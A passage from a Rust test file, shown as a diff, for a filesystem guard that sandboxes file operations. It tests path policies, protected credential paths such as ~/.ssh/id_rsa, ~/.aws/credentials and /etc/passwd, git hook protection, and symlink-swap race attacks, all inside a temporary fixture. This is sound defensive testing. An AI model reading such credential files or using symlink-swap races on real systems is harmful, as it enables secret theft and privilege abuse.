@@ -1,0 +1,1016 @@
+//! Behaviour of the filesystem guard on a real fixture tree, and of the
+//! platform rules without one.
+
+use std::path::PathBuf;
+
+use super::*;
+use crate::decision::Verdict;
+
+/// A fixture under a fresh temporary root `R`:
+/// `R/ws/{src/main.rs, README.md, .env}`, `R/home/u/{.ssh/id_rsa, .bashrc}`,
+/// `R/etc/passwd`, `R/outside/`.
+pub(super) struct Fx {
+    _dir: tempfile::TempDir,
+    pub(super) r: PathBuf,
+}
+
+impl Fx {
+    pub(super) fn new() -> Fx {
+        let dir = tempfile::Builder::new()
+            .prefix("fsguard")
+            .tempdir()
+            .unwrap();
+        let r = std::fs::canonicalize(dir.path()).unwrap();
+        let fx = Fx { _dir: dir, r };
+        for f in [
+            "ws/src/main.rs",
+            "ws/README.md",
+            "ws/.env",
+            "home/u/.ssh/id_rsa",
+            "home/u/.bashrc",
+            "etc/passwd",
+        ] {
+            fx.file(f, &format!("content of {f}\n"));
+        }
+        fx.dir("outside");
+        fx
+    }
+
+    /// `R/rel` as text.
+    pub(super) fn p(&self, rel: &str) -> String {
+        format!("{}/{rel}", self.r.display())
+    }
+
+    pub(super) fn path(&self, rel: &str) -> PathBuf {
+        self.r.join(rel)
+    }
+
+    pub(super) fn file(&self, rel: &str, content: &str) {
+        let p = self.path(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, content).unwrap();
+    }
+
+    pub(super) fn dir(&self, rel: &str) {
+        std::fs::create_dir_all(self.path(rel)).unwrap();
+    }
+
+    /// A symbolic link at `R/link` with content `target` (taken literally).
+    pub(super) fn link(&self, link: &str, target: &str) {
+        let l = self.path(link);
+        std::fs::create_dir_all(l.parent().unwrap()).unwrap();
+        std::os::unix::fs::symlink(target, l).unwrap();
+    }
+
+    pub(super) fn guard(&self, pol: &FilesystemPolicy) -> FilesystemGuard {
+        self.guard_limits(pol, &ResourceLimits::default())
+    }
+
+    pub(super) fn guard_limits(
+        &self,
+        pol: &FilesystemPolicy,
+        limits: &ResourceLimits,
+    ) -> FilesystemGuard {
+        FilesystemGuard::new(pol, limits, &self.path("ws"), &self.path("home/u")).unwrap()
+    }
+}
+
+pub(super) fn pol(mode: FilesystemMode, allowed: &[&str], blocked: &[&str]) -> FilesystemPolicy {
+    FilesystemPolicy {
+        mode,
+        allowed_paths: allowed.iter().map(|s| s.to_string()).collect(),
+        blocked_paths: blocked.iter().map(|s| s.to_string()).collect(),
+        allow_symlinks: true,
+        allow_hidden_files: true,
+    }
+}
+
+use FileOperation as Op;
+use FilesystemMode::{Permissive, Strict, Workspace};
+
+fn check(g: &FilesystemGuard, path: &str, op: Op) -> Decision {
+    g.check(&FileRequest::new(path, op))
+}
+
+fn check2(g: &FilesystemGuard, path: &str, op: Op, other: &str) -> Decision {
+    g.check(&FileRequest {
+        path,
+        operation: op,
+        other: Some(other),
+        size: None,
+    })
+}
+
+#[track_caller]
+fn allow(d: Decision) {
+    assert_eq!(d.verdict, Verdict::Allow, "{d:?}");
+    assert_eq!(d.code, DecisionCode::Allowed);
+}
+
+#[track_caller]
+fn deny(d: Decision, code: DecisionCode) -> Decision {
+    assert_eq!((d.verdict, d.code), (Verdict::Deny, code), "{d:?}");
+    d
+}
+
+#[test]
+fn workspace_files_and_relative_paths_are_allowed() {
+    let fx = Fx::new();
+    let g = fx.guard(&pol(Workspace, &[], &["~/.ssh", "/etc"]));
+    allow(check(&g, "src/main.rs", Op::Read));
+    allow(check(&g, "./src/../README.md", Op::Write));
+    allow(check(&g, &fx.p("ws/new/dir/file.txt"), Op::Create));
+    allow(check(&g, &fx.p("ws"), Op::List));
+    allow(check(
+        &g,
+        &format!("file://{}", fx.p("ws/src/main.rs")),
+        Op::Read,
+    ));
+    let d = check(&g, "src/main.rs", Op::Read);
+    assert_eq!(
+        d.rule.as_deref(),
+        Some(format!("workspace: {}", fx.p("ws")).as_str())
+    );
+}
+
+#[test]
+fn outside_and_blocked_name_the_part_and_the_rule() {
+    let fx = Fx::new();
+    let g = fx.guard(&pol(Workspace, &[], &["~/.ssh", &fx.p("etc")]));
+    let d = deny(
+        check(&g, "../etc/passwd", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    assert_eq!(
+        d.rule.as_deref(),
+        Some(format!("filesystem.blocked_paths[1]: {}", fx.p("etc")).as_str())
+    );
+    assert!(d.reason.contains(&fx.p("etc/passwd")), "{}", d.reason);
+    let d = deny(
+        check(&g, "~/.ssh/id_rsa", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    assert_eq!(
+        d.rule.as_deref(),
+        Some("filesystem.blocked_paths[0]: ~/.ssh")
+    );
+    let d = deny(
+        check(&g, &fx.p("outside/x"), Op::Write),
+        DecisionCode::OutsideWorkspace,
+    );
+    assert_eq!(d.rule.as_deref(), Some("filesystem.mode: workspace"));
+    assert!(d.reason.contains(&fx.p("outside/x")));
+}
+
+#[test]
+fn strict_mode_needs_an_allowed_entry_and_relative_entries_use_the_workspace() {
+    let fx = Fx::new();
+    let g = fx.guard(&pol(Strict, &["src"], &[]));
+    allow(check(&g, "src/main.rs", Op::Read));
+    deny(
+        check(&g, "README.md", Op::Read),
+        DecisionCode::OutsideAllowedPaths,
+    );
+    let g = fx.guard(&pol(Strict, &["./"], &[]));
+    allow(check(&g, "README.md", Op::Read));
+    deny(
+        check(&g, &fx.p("outside/x"), Op::Read),
+        DecisionCode::OutsideAllowedPaths,
+    );
+}
+
+#[test]
+fn protected_files_hold_even_in_permissive_mode() {
+    let fx = Fx::new();
+    fx.dir("ws/.git/hooks");
+    fx.file("ws/.git/config", "");
+    fx.dir("ws/sub/.git/modules/lib");
+    let g = fx.guard(&pol(Permissive, &[], &[]));
+    let d = deny(
+        check(&g, "~/.ssh/id_rsa", Op::Read),
+        DecisionCode::ProtectedPath,
+    );
+    assert_eq!(d.rule.as_deref(), Some("built-in: protected ~/.ssh"));
+    deny(
+        check(&g, "~/.aws/credentials", Op::Read),
+        DecisionCode::ProtectedPath,
+    );
+    deny(
+        check(&g, "~/.bashrc", Op::Write),
+        DecisionCode::ProtectedPath,
+    );
+    deny(
+        check(&g, "~/.config/fish/config.fish", Op::Write),
+        DecisionCode::ProtectedPath,
+    );
+    allow(check(&g, "~/.bashrc", Op::Read));
+    allow(check(&g, "~/.sshx", Op::Read));
+    let d = deny(
+        check(&g, ".git/hooks/pre-commit", Op::Write),
+        DecisionCode::ProtectedPath,
+    );
+    assert_eq!(d.rule.as_deref(), Some("built-in: protected .git/hooks"));
+    deny(
+        check(&g, ".git/config", Op::Write),
+        DecisionCode::ProtectedPath,
+    );
+    deny(
+        check(&g, "sub/.git/config", Op::Create),
+        DecisionCode::ProtectedPath,
+    );
+    deny(
+        check(&g, "sub/.git/modules/lib/config", Op::Write),
+        DecisionCode::ProtectedPath,
+    );
+    deny(
+        check(&g, "sub/.git/modules/lib/hooks/post-checkout", Op::Write),
+        DecisionCode::ProtectedPath,
+    );
+    deny(
+        check(&g, ".git/hooks", Op::Delete),
+        DecisionCode::ProtectedPath,
+    );
+    allow(check(&g, ".git/config", Op::Read));
+    allow(check(&g, ".git/HEAD", Op::Write));
+    allow(check(&g, ".github/workflows/ci.yml", Op::Write));
+    // A `.git` file can point git at hooks elsewhere.
+    deny(
+        check(&g, "other/.git", Op::Write),
+        DecisionCode::ProtectedPath,
+    );
+    deny(
+        check2(&g, "README.md", Op::Rename, "other/.git"),
+        DecisionCode::ProtectedPath,
+    );
+    allow(check(&g, "other/.git", Op::CreateDir));
+    // Reached through a link, the canonical path is what counts.
+    fx.link("ws/h", ".git/hooks");
+    deny(
+        check(&g, "h/pre-push", Op::Write),
+        DecisionCode::ProtectedPath,
+    );
+}
+
+#[test]
+fn explicit_allowed_entries_lift_a_protection() {
+    let fx = Fx::new();
+    fx.dir("ws/.git/hooks");
+    let g = fx.guard(&pol(Permissive, &["~/.ssh", ".git/hooks"], &[]));
+    allow(check(&g, "~/.ssh/id_rsa", Op::Read));
+    allow(check(&g, ".git/hooks/pre-commit", Op::Write));
+    // A broad entry that merely contains the protected path does not.
+    let g = fx.guard(&pol(Permissive, &["~", "./"], &[]));
+    deny(
+        check(&g, "~/.ssh/id_rsa", Op::Read),
+        DecisionCode::ProtectedPath,
+    );
+    deny(
+        check(&g, ".git/hooks/pre-commit", Op::Write),
+        DecisionCode::ProtectedPath,
+    );
+}
+
+#[test]
+fn hidden_components_count_only_below_the_matched_root() {
+    let fx = Fx::new();
+    fx.file("home/u/.proj/ws/x.txt", "");
+    fx.file("home/u/.proj/ws/.env", "");
+    let mut p = pol(Workspace, &[], &[]);
+    p.allow_hidden_files = false;
+    let g = FilesystemGuard::new(
+        &p,
+        &ResourceLimits::default(),
+        &fx.path("home/u/.proj/ws"),
+        &fx.path("home/u"),
+    )
+    .unwrap();
+    allow(check(&g, "x.txt", Op::Read));
+    let d = deny(check(&g, ".env", Op::Read), DecisionCode::HiddenFile);
+    assert!(d.reason.contains("\".env\""), "{}", d.reason);
+    // A hidden name on the way counts even when the target is not hidden.
+    fx.link("home/u/.proj/ws/.hl", ".");
+    deny(check(&g, ".hl/x.txt", Op::Read), DecisionCode::HiddenFile);
+    // In permissive mode outside every root, every component counts.
+    let mut p = pol(Permissive, &[], &[]);
+    p.allow_hidden_files = false;
+    let g = fx.guard(&p);
+    deny(
+        check(&g, &fx.p("home/u/.cache/x"), Op::Read),
+        DecisionCode::HiddenFile,
+    );
+    allow(check(&g, &fx.p("outside/x"), Op::Read));
+}
+
+#[test]
+fn symlinks_off_refuses_links_below_roots_but_not_above() {
+    let fx = Fx::new();
+    fx.link("ws/srclink", "src");
+    fx.dir("real/ws2");
+    fx.link("lnk", "real");
+    let mut p = pol(Workspace, &[], &[]);
+    p.allow_symlinks = false;
+    let g = fx.guard(&p);
+    let d = deny(
+        check(&g, "srclink/main.rs", Op::Read),
+        DecisionCode::SymlinkNotAllowed,
+    );
+    assert!(d.reason.contains("srclink"), "{}", d.reason);
+    deny(
+        check2(&g, "newlink", Op::Symlink, "src"),
+        DecisionCode::SymlinkNotAllowed,
+    );
+    // Deleting a link acts on the link, not through it.
+    allow(check(&g, "srclink", Op::Delete));
+    // A workspace configured through a linked ancestor is fine.
+    let g = FilesystemGuard::new(
+        &p,
+        &ResourceLimits::default(),
+        &fx.path("lnk/ws2"),
+        &fx.path("home/u"),
+    )
+    .unwrap();
+    allow(check(&g, &fx.p("lnk/ws2/a.txt"), Op::Write));
+    allow(check(&g, &fx.p("real/ws2/a.txt"), Op::Write));
+}
+
+#[test]
+fn devices_and_kernel_interfaces() {
+    let fx = Fx::new();
+    let g = fx.guard(&pol(Workspace, &[], &[]));
+    for dev in [
+        "/dev/null",
+        "/dev/zero",
+        "/dev/urandom",
+        "/dev/stdout",
+        "/dev/stderr",
+    ] {
+        allow(check(&g, dev, Op::Write));
+        allow(check(&g, dev, Op::Read));
+    }
+    deny(check(&g, "/dev/null", Op::Delete), DecisionCode::DevicePath);
+    deny(check(&g, "/dev/sda", Op::Read), DecisionCode::DevicePath);
+    deny(
+        check(&g, "/sys/kernel/notes", Op::Read),
+        DecisionCode::DevicePath,
+    );
+    deny(
+        check(&g, "/proc/1/environ", Op::Read),
+        DecisionCode::DevicePath,
+    );
+    // Through links in the workspace.
+    fx.link("ws/null", "/dev/null");
+    allow(check(&g, "null", Op::Write));
+    fx.link("ws/fd0", "/proc/self/fd/0");
+    deny(check(&g, "fd0", Op::Read), DecisionCode::DevicePath);
+    fx.link("ws/rootfs", "/proc/self/root");
+    deny(
+        check(&g, &format!("rootfs{}", fx.p("ws/README.md")), Op::Read),
+        DecisionCode::DevicePath,
+    );
+    // Blocked wins over the safe devices; explicit entries allow devices.
+    let g = fx.guard(&pol(Permissive, &["/dev/shm"], &["/dev/null"]));
+    deny(check(&g, "/dev/null", Op::Write), DecisionCode::BlockedPath);
+    allow(check(&g, "/dev/shm/x", Op::Write));
+    deny(check(&g, "/dev/mem", Op::Read), DecisionCode::DevicePath);
+}
+
+#[test]
+fn roots_and_ancestors_of_blocked_entries_are_never_deleted_or_moved() {
+    let fx = Fx::new();
+    fx.file("ws/a/secret/k", "");
+    fx.dir("ws/keep");
+    let g = fx.guard(&pol(Workspace, &["keep"], &["a/secret"]));
+    deny(
+        check(&g, &fx.p("ws"), Op::Delete),
+        DecisionCode::RootOperation,
+    );
+    deny(check(&g, "keep", Op::Delete), DecisionCode::RootOperation);
+    let d = deny(check(&g, "a", Op::Delete), DecisionCode::RootOperation);
+    assert!(d.reason.contains("a/secret"), "{}", d.reason);
+    deny(
+        check2(&g, "a", Op::Rename, "b"),
+        DecisionCode::RootOperation,
+    );
+    deny(
+        check2(&g, "README.md", Op::Rename, &fx.p("ws")),
+        DecisionCode::RootOperation,
+    );
+    allow(check(&g, "README.md", Op::Delete));
+    allow(check2(&g, "src", Op::Rename, "lib"));
+    let g = fx.guard(&pol(Permissive, &[], &[]));
+    deny(check(&g, "~", Op::Delete), DecisionCode::RootOperation);
+    deny(
+        check(&g, &fx.p(""), Op::Delete),
+        DecisionCode::RootOperation,
+    );
+}
+
+#[test]
+fn both_ends_of_rename_and_link_are_checked() {
+    let fx = Fx::new();
+    let g = fx.guard(&pol(Workspace, &[], &[&fx.p("etc")]));
+    deny(
+        check2(&g, "README.md", Op::Rename, &fx.p("etc/x")),
+        DecisionCode::BlockedPath,
+    );
+    deny(
+        check2(&g, "README.md", Op::Rename, &fx.p("outside/x")),
+        DecisionCode::OutsideWorkspace,
+    );
+    deny(
+        check2(&g, &fx.p("outside"), Op::Rename, "x"),
+        DecisionCode::OutsideWorkspace,
+    );
+    allow(check2(&g, "hl", Op::Link, "README.md"));
+    deny(
+        check2(&g, "hl", Op::Link, &fx.p("etc/passwd")),
+        DecisionCode::BlockedPath,
+    );
+    // Protection comes before the mode.
+    deny(
+        check2(&g, "hl", Op::Link, "~/.bashrc"),
+        DecisionCode::ProtectedPath,
+    );
+    let g = fx.guard(&pol(Permissive, &[], &[]));
+    deny(
+        check2(&g, "hl", Op::Link, "~/.bashrc"),
+        DecisionCode::ProtectedPath,
+    );
+    // A link to a link is judged at its final target too.
+    fx.link("ws/to-etc", &fx.p("etc/passwd"));
+    let g = fx.guard(&pol(Workspace, &[], &[]));
+    deny(
+        check2(&g, "hl", Op::Link, "to-etc"),
+        DecisionCode::OutsideWorkspace,
+    );
+    deny(
+        g.check(&FileRequest::new("x", Op::Rename)),
+        DecisionCode::BadRequest,
+    );
+}
+
+#[test]
+fn symlink_targets_resolve_from_the_link_directory() {
+    let fx = Fx::new();
+    fx.dir("ws/sub");
+    let g = fx.guard(&pol(Workspace, &[], &[]));
+    allow(check2(&g, "sub/l", Op::Symlink, "../src"));
+    deny(
+        check2(&g, "sub/l", Op::Symlink, "../../etc"),
+        DecisionCode::OutsideWorkspace,
+    );
+    deny(
+        check2(&g, "sub/l", Op::Symlink, &fx.p("outside")),
+        DecisionCode::OutsideWorkspace,
+    );
+    // `~` in link text is a name, as the kernel sees it.
+    allow(check2(&g, "sub/l", Op::Symlink, "~/x"));
+}
+
+#[test]
+fn sizes_are_bounded_when_known() {
+    let fx = Fx::new();
+    let limits = ResourceLimits {
+        max_file_size: Some(10),
+        ..Default::default()
+    };
+    let g = fx.guard_limits(&pol(Workspace, &[], &[]), &limits);
+    let req = |size| FileRequest {
+        path: "a.txt",
+        operation: Op::Write,
+        other: None,
+        size,
+    };
+    allow(g.check(&req(Some(10))));
+    allow(g.check(&req(None)));
+    let d = deny(g.check(&req(Some(11))), DecisionCode::FileTooLarge);
+    assert_eq!(d.rule.as_deref(), Some("limits.max_file_size: 10"));
+}
+
+#[test]
+fn globs_do_not_cross_separators_unless_double_star() {
+    let fx = Fx::new();
+    let g = fx.guard(&pol(
+        Workspace,
+        &[],
+        &["*.pem", "secrets/*.key", "**/node_modules"],
+    ));
+    deny(
+        check(&g, "deep/dir/server.pem", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    allow(check(&g, "deep/dir/pem-guide.md", Op::Read));
+    deny(
+        check(&g, "secrets/a.key", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    allow(check(&g, "secrets/sub/a.key", Op::Read));
+    deny(
+        check(&g, "web/node_modules/x/index.js", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    let g = fx.guard(&pol(Strict, &["pkgs/*/src"], &[]));
+    allow(check(&g, "pkgs/a/src/lib.rs", Op::Write));
+    deny(
+        check(&g, "pkgs/a/test/lib.rs", Op::Write),
+        DecisionCode::OutsideAllowedPaths,
+    );
+    deny(
+        check(&g, "pkgs/a/b/src/lib.rs", Op::Write),
+        DecisionCode::OutsideAllowedPaths,
+    );
+}
+
+#[test]
+fn policy_paths_are_canonicalized_once() {
+    let fx = Fx::new();
+    std::fs::rename(fx.path("home/u"), fx.path("outside/u")).unwrap();
+    fx.link("home/u", &fx.p("outside/u"));
+    let g = fx.guard(&pol(Permissive, &[], &["~/.aws"]));
+    fx.file("outside/u/.aws/credentials", "");
+    deny(
+        check(&g, &fx.p("outside/u/.aws/credentials"), Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    deny(
+        check(&g, &fx.p("outside/u/.ssh/id_rsa"), Op::Read),
+        DecisionCode::ProtectedPath,
+    );
+}
+
+#[test]
+fn blocked_and_protected_entries_are_known_by_identity() {
+    let fx = Fx::new();
+    fx.file("ws/secrets/key", "S");
+    let g = fx.guard(&pol(Workspace, &[], &["secrets"]));
+    // Renamed after the policy was compiled: the name changed, the directory did not.
+    std::fs::rename(fx.path("ws/secrets"), fx.path("ws/renamed")).unwrap();
+    let d = deny(
+        check(&g, "renamed/key", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    assert!(d.reason.contains("same file"), "{}", d.reason);
+    // A hard link to a start-up file may be read, not changed.
+    std::fs::hard_link(fx.path("home/u/.bashrc"), fx.path("ws/rc")).unwrap();
+    allow(check(&g, "rc", Op::Read));
+    deny(check(&g, "rc", Op::Write), DecisionCode::ProtectedPath);
+}
+
+#[test]
+fn unresolvable_paths_deny() {
+    let fx = Fx::new();
+    fx.link("ws/loop", "loop");
+    let g = fx.guard(&pol(Permissive, &[], &[]));
+    deny(check(&g, "loop/x", Op::Write), DecisionCode::SymlinkLoop);
+    deny(
+        check(&g, "README.md/x", Op::Read),
+        DecisionCode::ResolutionError,
+    );
+    deny(check(&g, "", Op::Read), DecisionCode::InvalidPath);
+    deny(
+        check(&g, "https://example.com/x", Op::Read),
+        DecisionCode::InvalidPath,
+    );
+}
+
+#[test]
+fn bad_policies_are_errors() {
+    let fx = Fx::new();
+    let e = FilesystemGuard::new(
+        &pol(Workspace, &[], &["src/[a"]),
+        &ResourceLimits::default(),
+        &fx.path("ws"),
+        &fx.path("home/u"),
+    )
+    .unwrap_err();
+    assert!(
+        e.message
+            .starts_with("filesystem.blocked_paths[0]: invalid glob"),
+        "{}",
+        e.message
+    );
+    let e = FilesystemGuard::for_platform(
+        &pol(Workspace, &[], &[r"\\server\share"]),
+        &ResourceLimits::default(),
+        r"C:\ws",
+        r"C:\Users\u",
+        Platform::Windows,
+    )
+    .unwrap_err();
+    assert!(e.message.contains("UNC"), "{}", e.message);
+    let e = FilesystemGuard::for_platform(
+        &pol(Workspace, &[], &[]),
+        &ResourceLimits::default(),
+        "ws",
+        "/home/u",
+        Platform::Linux,
+    )
+    .unwrap_err();
+    assert!(e.message.starts_with("workspace:"), "{}", e.message);
+}
+
+fn pure(platform: Platform, ws: &str, home: &str, p: &FilesystemPolicy) -> FilesystemGuard {
+    FilesystemGuard::for_platform(p, &ResourceLimits::default(), ws, home, platform).unwrap()
+}
+
+#[test]
+fn windows_rules() {
+    let g = pure(
+        Platform::Windows,
+        r"C:\ws",
+        r"C:\Users\u",
+        &pol(
+            Workspace,
+            &[],
+            &[r"~\.ssh", r"C:\ws\secret.txt", r"**\*.pem"],
+        ),
+    );
+    allow(check(&g, r"c:/WS/src/x.rs", Op::Write));
+    deny(
+        check(&g, "C:\\ws\\secret.txt. ", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    deny(
+        check(&g, r"C:\WS\Certs\Server.PEM", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    deny(
+        check(&g, r"c:\users\U\.SSH\id_rsa", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    deny(
+        check(&g, r"D:\ws\x", Op::Read),
+        DecisionCode::OutsideWorkspace,
+    );
+    deny(
+        check(&g, r"C:\wsx\y", Op::Read),
+        DecisionCode::OutsideWorkspace,
+    );
+    deny(check(&g, r"\\.\nul", Op::Write), DecisionCode::PlatformPath);
+    deny(
+        check(&g, r"C:\ws\aux.c", Op::Write),
+        DecisionCode::PlatformPath,
+    );
+    // `..` never climbs above the drive.
+    deny(
+        check(&g, r"C:\..\..\ws2", Op::Read),
+        DecisionCode::OutsideWorkspace,
+    );
+    allow(check(&g, r"\ws\src", Op::List));
+}
+
+#[test]
+fn macos_rules() {
+    let g = pure(
+        Platform::MacOs,
+        "/Users/u/ws",
+        "/Users/u",
+        &pol(Workspace, &["/tmp"], &["/etc", "~/.ssh"]),
+    );
+    allow(check(&g, "/private/tmp/x", Op::Write));
+    allow(check(&g, "/TMP/x", Op::Write));
+    deny(
+        check(&g, "/private/etc/hosts", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    deny(check(&g, "/ETC/hosts", Op::Read), DecisionCode::BlockedPath);
+    deny(
+        check(&g, "/users/U/.SSH/id_rsa", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    allow(check(&g, "/Users/u/WS/Src/main.rs", Op::Read));
+    let g = pure(
+        Platform::MacOs,
+        "/ws",
+        "/Users/u",
+        &pol(Workspace, &[], &["/ws/café"]),
+    );
+    deny(
+        check(&g, "/ws/cafe\u{301}/x", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    deny(check(&g, "/ws/CAFÉ/x", Op::Read), DecisionCode::BlockedPath);
+}
+
+#[test]
+fn linux_compares_exactly() {
+    let g = pure(
+        Platform::Linux,
+        "/ws",
+        "/home/u",
+        &pol(Workspace, &[], &["/ws/secret"]),
+    );
+    allow(check(&g, "/ws/SECRET", Op::Read));
+    allow(check(&g, "/ws/secret-public/x", Op::Read));
+    deny(
+        check(&g, "/ws/secret/x", Op::Read),
+        DecisionCode::BlockedPath,
+    );
+    deny(check(&g, "/WS/x", Op::Read), DecisionCode::OutsideWorkspace);
+}
+
+#[test]
+fn guard_is_shareable_across_threads() {
+    fn assert_send_sync<T: Send + Sync>() {}
+    assert_send_sync::<FilesystemGuard>();
+}
+
+#[cfg(target_os = "linux")]
+mod enforcing {
+    use super::*;
+    use crate::guards::filesystem::enforce::{EntryKind, OpError};
+    use std::io::Read;
+
+    #[track_caller]
+    fn refused(r: Result<impl std::fmt::Debug, OpError>, code: DecisionCode) {
+        match r {
+            Err(OpError::Denied(d)) => assert_eq!(d.code, code, "{d:?}"),
+            other => panic!("expected a {code} refusal, got {other:?}"),
+        }
+    }
+
+    #[track_caller]
+    fn failed(r: Result<impl std::fmt::Debug, OpError>, code: crate::error::ErrorCode) -> String {
+        match r {
+            Err(OpError::Failed(e)) => {
+                assert_eq!(e.code, code, "{e:?}");
+                e.message
+            }
+            other => panic!("expected a {code:?} failure, got {other:?}"),
+        }
+    }
+
+    fn read(fx: &Fx, rel: &str) -> String {
+        std::fs::read_to_string(fx.path(rel)).unwrap()
+    }
+
+    #[test]
+    fn operations_do_what_they_say() {
+        let fx = Fx::new();
+        let g = fx.guard(&pol(Workspace, &[], &["~/.ssh"]));
+        assert_eq!(
+            g.read_file("src/main.rs").unwrap(),
+            b"content of ws/src/main.rs\n"
+        );
+        g.write_file("out/deep/a.txt", b"hello").unwrap();
+        assert_eq!(read(&fx, "ws/out/deep/a.txt"), "hello");
+        g.write_file("out/deep/a.txt", b"hi").unwrap();
+        assert_eq!(read(&fx, "ws/out/deep/a.txt"), "hi");
+        failed(
+            g.create_file("out/deep/a.txt", b"x"),
+            crate::error::ErrorCode::Io,
+        );
+        g.create_file("out/new.txt", b"new").unwrap();
+        g.create_dir("d1/d2").unwrap();
+        g.create_dir("d1/d2").unwrap();
+        assert!(fx.path("ws/d1/d2").is_dir());
+        g.rename("out/new.txt", "d1/moved.txt").unwrap();
+        assert_eq!(read(&fx, "ws/d1/moved.txt"), "new");
+        failed(
+            g.rename("out/deep/a.txt", "d1/moved.txt"),
+            crate::error::ErrorCode::Io,
+        );
+        g.delete("d1/moved.txt").unwrap();
+        g.delete("d1/d2").unwrap();
+        assert!(!fx.path("ws/d1/d2").exists());
+        failed(g.delete("out"), crate::error::ErrorCode::Io);
+        let names: Vec<_> = g
+            .list_dir(".")
+            .unwrap()
+            .into_iter()
+            .map(|e| (e.name, e.kind))
+            .collect();
+        assert!(names.contains(&("src".into(), EntryKind::Dir)), "{names:?}");
+        assert!(
+            names.contains(&("README.md".into(), EntryKind::File)),
+            "{names:?}"
+        );
+        // Refusals come from the policy, before anything is touched.
+        refused(g.read_file("~/.ssh/id_rsa"), DecisionCode::BlockedPath);
+        refused(
+            g.write_file(&fx.p("outside/x"), b"x"),
+            DecisionCode::OutsideWorkspace,
+        );
+        assert!(!fx.path("outside/x").exists());
+        refused(g.delete(&fx.p("ws")), DecisionCode::RootOperation);
+    }
+
+    #[test]
+    fn reads_stream_through_a_handle() {
+        let fx = Fx::new();
+        let big = "x".repeat(100_000);
+        fx.file("ws/big.txt", &big);
+        let g = fx.guard(&pol(Workspace, &[], &[]));
+        let mut h = g.open_read("big.txt").unwrap();
+        assert_eq!(h.size(), 100_000);
+        let mut buf = [0u8; 4096];
+        let mut total = 0;
+        loop {
+            let n = h.read(&mut buf).unwrap();
+            if n == 0 {
+                break;
+            }
+            total += n;
+        }
+        assert_eq!(total, 100_000);
+        failed(g.open_read("src"), crate::error::ErrorCode::Io);
+    }
+
+    #[test]
+    fn writes_are_bounded_by_max_file_size() {
+        let fx = Fx::new();
+        let limits = ResourceLimits {
+            max_file_size: Some(4),
+            ..Default::default()
+        };
+        let g = fx.guard_limits(&pol(Workspace, &[], &[]), &limits);
+        refused(g.write_file("a.txt", b"12345"), DecisionCode::FileTooLarge);
+        assert!(!fx.path("ws/a.txt").exists());
+        // Also when the size was not known at the check.
+        let a = g.authorize(&FileRequest::new("a.txt", Op::Write)).unwrap();
+        refused(g.write_authorized(&a, b"12345"), DecisionCode::FileTooLarge);
+        g.write_authorized(&a, b"1234").unwrap();
+        assert_eq!(read(&fx, "ws/a.txt"), "1234");
+        let a = g.authorize(&FileRequest::new("a.txt", Op::Read)).unwrap();
+        failed(
+            g.write_authorized(&a, b"x"),
+            crate::error::ErrorCode::InvalidArgument,
+        );
+    }
+
+    #[test]
+    fn listing_leaves_out_what_may_not_be_read() {
+        let fx = Fx::new();
+        fx.file("ws/secrets/k", "");
+        fx.file("ws/x.pem", "");
+        let mut p = pol(Workspace, &[], &["secrets", "*.pem"]);
+        p.allow_hidden_files = false;
+        let g = fx.guard(&p);
+        let names: Vec<_> = g
+            .list_dir(".")
+            .unwrap()
+            .into_iter()
+            .map(|e| e.name)
+            .collect();
+        assert_eq!(names, vec!["README.md".to_string(), "src".to_string()]);
+    }
+
+    #[test]
+    fn deleting_a_link_removes_the_link_only() {
+        let fx = Fx::new();
+        fx.link("ws/etclink", &fx.p("etc"));
+        let g = fx.guard(&pol(Workspace, &[], &[]));
+        g.delete("etclink").unwrap();
+        assert!(std::fs::symlink_metadata(fx.path("ws/etclink")).is_err());
+        assert!(fx.path("etc/passwd").exists());
+    }
+
+    #[test]
+    fn race_directory_swapped_for_a_link_before_read() {
+        let fx = Fx::new();
+        fx.file("ws/dir/file.txt", "inside");
+        fx.file("outside/file.txt", "SECRET");
+        let g = fx.guard(&pol(Workspace, &[], &[]));
+        let a = g
+            .authorize(&FileRequest::new("dir/file.txt", Op::Read))
+            .unwrap();
+        std::fs::rename(fx.path("ws/dir"), fx.path("ws/dir.bak")).unwrap();
+        fx.link("ws/dir", &fx.p("outside"));
+        // A naive open now reads the secret; the guarded one refuses.
+        assert_eq!(read(&fx, "ws/dir/file.txt"), "SECRET");
+        refused(g.open_read_authorized(&a), DecisionCode::PathChanged);
+        // Relative link climbing out: same.
+        std::fs::remove_file(fx.path("ws/dir")).unwrap();
+        fx.link("ws/dir", "../outside");
+        refused(g.open_read_authorized(&a), DecisionCode::PathChanged);
+    }
+
+    #[test]
+    fn race_parent_swapped_for_a_link_before_write() {
+        let fx = Fx::new();
+        fx.dir("ws/a/b");
+        let g = fx.guard(&pol(Workspace, &[], &[]));
+        let a = g
+            .authorize(&FileRequest::new("a/b/c.txt", Op::Write))
+            .unwrap();
+        std::fs::rename(fx.path("ws/a"), fx.path("ws/a.old")).unwrap();
+        fx.link("ws/a", &fx.p(""));
+        refused(
+            g.write_authorized(&a, b"payload"),
+            DecisionCode::PathChanged,
+        );
+        assert!(!fx.path("b").exists());
+        assert!(!fx.path("ws/a.old/b/c.txt").exists());
+    }
+
+    #[test]
+    fn race_final_component_swapped_for_a_link_before_write() {
+        let fx = Fx::new();
+        fx.file("ws/target.txt", "mine");
+        let g = fx.guard(&pol(Workspace, &[], &[]));
+        let a = g
+            .authorize(&FileRequest::new("target.txt", Op::Write))
+            .unwrap();
+        std::fs::remove_file(fx.path("ws/target.txt")).unwrap();
+        fx.link("ws/target.txt", &fx.p("etc/passwd"));
+        refused(g.write_authorized(&a, b"pwned"), DecisionCode::PathChanged);
+        assert_eq!(read(&fx, "etc/passwd"), "content of etc/passwd\n");
+    }
+
+    #[test]
+    fn race_blocked_directory_moved_into_the_checked_name() {
+        // Inside the root, no link involved: the blocked directory itself
+        // takes the name that was checked. Only its identity gives it away.
+        let fx = Fx::new();
+        fx.file("ws/dir/key.pem", "public");
